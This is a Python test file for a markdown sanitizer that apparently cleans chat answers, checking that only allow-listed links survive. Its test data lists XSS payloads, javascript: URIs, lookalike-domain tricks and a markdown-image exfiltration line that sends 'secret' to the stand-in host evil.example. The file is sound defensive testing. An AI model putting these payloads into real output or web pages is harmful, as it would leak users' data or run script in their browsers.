"""Markdown that is safe to show."""

import pytest

from tests.spaces.chat.answers.conftest import links_in, module

ALLOWED = frozenset({"https://mossbridge.example/returns", "help@mossbridge.example"})
EVIL = (
    "[x](https://evil.example/a?b=1)",
    "![x](https://evil.example/p.png?data=secret)",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "[x][r]\n\n[r]: https://evil.example",
    "[r]\n\n[r]: <https://evil.example> 'title'",
    "> [r]: https://evil.example\n\n[r]",
    "- [r]: https://evil.example\n\n[r]",
    "<https://evil.example>",
    "<HTTPS://EVIL.example>",
    "<javascript:alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](/gradio_api/file=secrets)",
    "[x](\n<https://evil.example/a b>\n)",
    '[x](https://evil.example "title")',
    "[x](https://evil.example/(a)(b))",
    "[x](https://evil.example/((a)(b)))",
    "[x\\](https://evil.example)](https://evil.example)",
    "[[x](https://evil.example)](https://evil.example)",
    "[a]\u200b(https://evil.example)",
    "[x](https://mossbridge.example/returns?to=evil)",
    "[x](https://mossbridge.example.evil.example/returns)",
    "[x](https://mossbridge.example@evil.example/returns)",
    "see https://evil.example/now and www.evil.example",
    "日https://evil.example",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png",
    "<svg/onload=alert(1)>",
    "<a href='https://evil.example'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<!-- hidden --> <![CDATA[x]]> <?php x ?>",
    "<style>@import 'https://evil.example'</style>",
    "<details open ontoggle=alert(1)>",
    "[1](https://evil.example)",
    "[1]: https://evil.example\n\nIt is so [1].",
    "![][r]\n\n[r]: https://evil.example",
    "| a |\n|---|\n| [x](https://evil.example) |",
    "\\[x](https://evil.example)",
    "[x](&#104;ttps://evil.example)",
    "[x](https:\\\\evil.example)",
    "<x:https://evil.example>",
)


def safe(text: str, allowed=ALLOWED) -> str:
    return module("answers.safe_markdown").safe_markdown(text, allowed)


@pytest.mark.parametrize("text", EVIL)
def test_nothing_leads_away(text: str) -> None:
    shown = safe(f"before {text} after")
    assert links_in(shown) == set()
    assert links_in(safe(text)) == set()
    assert "://" not in shown
    assert "onerror" not in shown or "&lt;" in shown
    assert shown.startswith("before")


@pytest.mark.parametrize("text", EVIL)
def test_what_is_safe_stays_as_it_is(text: str) -> None:
    once = safe(text)
    assert safe(once) == once


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("[rules](https://mossbridge.example/returns)", {"https://mossbridge.example/returns"}),
        ('[rules](https://MOSSBRIDGE.example/returns/ "all")', {"https://MOSSBRIDGE.example/returns/"}),
        ("![rules](https://mossbridge.example/returns)", {"https://mossbridge.example/returns"}),
        ("<https://mossbridge.example/returns>", {"https://mossbridge.example/returns"}),
        ("[us](mailto:help@mossbridge.example)", {"mailto:help@mossbridge.example"}),
    ],
)
def test_links_of_the_articles_stay(text: str, links: set[str]) -> None:
    assert links_in(safe(text)) == links


@pytest.mark.parametrize(
    "text",
    [
        "**Bold**, *stress* and `code`.",
        "- one\n- two\n\n1. three\n2. four",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "It takes 3 days [1][2], not 5 < 6.",
        "> quoted",
        "Write to help@mossbridge.example or see https://mossbridge.example/returns.",
        "### A heading",
        "[…] and [sic]",
    ],
)
def test_plain_markdown_stays(text: str) -> None:
    assert safe(text) == text.replace("][", "] [")


def test_labels_stay_and_breaks_in_cells_become_spaces() -> None:
    assert safe("[the label](https://evil.example)!") == "the label!"
    assert safe("| a<br>b |") == "| a b |"
    assert safe("https://evil.example.") == "(link removed)."


def test_hostile_texts_are_no_trouble() -> None:
    pieces = (
        "[",
        "](",
        "[x](",
        "![",
        "<",
        "<a ",
        "<!--",
        "(",
        "\\",
        "`",
        "www.",
        "a://",
        "[a]: ",
        "](<",
        "<script ",
        "( ",
    )
    for piece in pieces:
        safe(piece * 3_000)
        safe(("[" * 500) + piece * 500 + (")" * 500))


def test_addresses_of_texts() -> None:
    addresses = module("answers.addresses")
    text = "[r](https://A.example/X/) ![p](<http://b.example/p.png>) <https://c.example> www.d.example, me@E.example."
    assert addresses.links_of(text) == {
        "https://a.example/X", "http://b.example/p.png", "https://c.example", "https://www.d.example", "me@e.example",
    }  # fmt: skip
    assert addresses.links_of("[x](javascript:alert(1)) [y](/local) [z](data:x)") == frozenset()
    said = "See evil.example/x, https://www.Shop.example/ or me@e.example. Not 3.5 or e.g. this."
    assert addresses.mentioned(said) == {
        "evil.example/x", "shop.example", "me@e.example",
    }  # fmt: skip
